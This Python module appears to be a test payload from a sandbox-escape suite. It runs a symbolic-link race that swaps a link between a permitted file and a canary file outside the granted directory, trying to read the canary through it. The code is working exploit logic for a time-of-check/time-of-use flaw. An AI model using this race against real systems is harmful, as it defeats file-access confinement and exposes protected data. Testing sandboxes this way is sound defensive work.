"""A symbolic link that changes while a file is read."""
CATEGORY = "races"
REACH = "read"
GRANT = {"write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import os
import threading
import time

from . import payload

HOME = payload.ROOT + "/home"


def attack():
    open(HOME + "/free", "w").close()
    link, other = HOME + "/link", HOME + "/other"
    ends = time.monotonic() + 0.7

    def flip():
        while time.monotonic() < ends:
            for target in HOME + "/free", payload.CANARY:
                os.symlink(target, other)
                os.replace(other, link)

    thread = threading.Thread(target=flip)
    thread.start()
    while time.monotonic() < ends:
        try:
            with open(link) as file:
                os.write(1, file.read().encode())
        except OSError:
            pass
    thread.join()
